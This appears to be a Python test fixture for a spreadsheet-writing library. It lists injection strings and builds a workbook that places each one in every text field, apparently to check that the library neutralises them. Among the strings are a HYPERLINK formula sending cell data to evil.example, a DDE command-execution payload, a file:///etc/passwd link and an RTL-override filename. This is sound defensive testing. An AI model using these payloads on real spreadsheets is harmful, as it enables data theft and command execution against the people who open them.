"""Texts that attack a spreadsheet or the library that writes it, and a workbook with one of them in every place."""

from __future__ import annotations

from xlperf.sheets.address import quoted_sheet
from xlperf.sheets.layout import (
    Cell,
    Chart,
    ColourRule,
    InputRule,
    Layout,
    NativeTable,
    Page,
    Properties,
    Run,
    Series,
    Sheet,
)
from xlperf.workbook.writing.names import sheet_name
from xlperf.workbook.writing.texts import plain_text

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    "http://evil.example/",
    "https://evil.example/#x",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\secret.xlsx",
    "\\\\host\\share\\x.xlsx",
    '&[Path]&P&F&G&L&"Wingdings"',
    "_x0026_[Path]",
    "_x003D_1+1",
    "<r><t>raw</t></r>",
    "<f>1+1</f>",
    "]]><!-- &amp; &lt; -->",
    "Well done!A1",
    "=Sheet1!$A$1",
    "".join(map(chr, range(32))),
    "\ud800 alone, \ufffe, \uffff",
    "%s {0} {file} %n",
    "‮gnp.exe",
    "🙂" * 40,
)
OURS = "=1+1"


def everywhere(payload: str) -> Layout:
    """Return a workbook with the payload in every place that takes a text."""
    name = sheet_name(payload)
    place = f"={quoted_sheet(name)}!$A$2"
    heading = plain_text(payload)[:200] or "x"
    sheet = Sheet(
        name,
        {
            (1, 1): Cell(heading, "heading"),
            (2, 1): Cell(payload),
            (3, 1): Cell(runs=(Run(payload, bold=True), Run(payload)), role="wrapped"),
            (4, 1): Cell(payload, formula=OURS),
            (5, 1): Cell(payload, "link", link=place.removeprefix("=")),
            (6, 1): Cell(1.0),
        },
        colour_rules=(ColourRule(((2, 1), (6, 1)), "rating_red", text=payload),),
        input_rules=(InputRule(((9, 1), (9, 1)), "any", title=payload[:12], help=payload[:200]),),
        charts=(
            Chart((9, 3), payload, payload, payload, (Series(place, place, place, "actual"),), f"{payload} chart"),
        ),
        tables=(NativeTable("payloads", ((1, 1), (6, 1)), (heading,)),),
        page=Page(header=payload[:60], footer=payload[:60]),
    )
    return Layout((sheet,), Properties(payload, payload, payload, payload, payload), {"here": place})
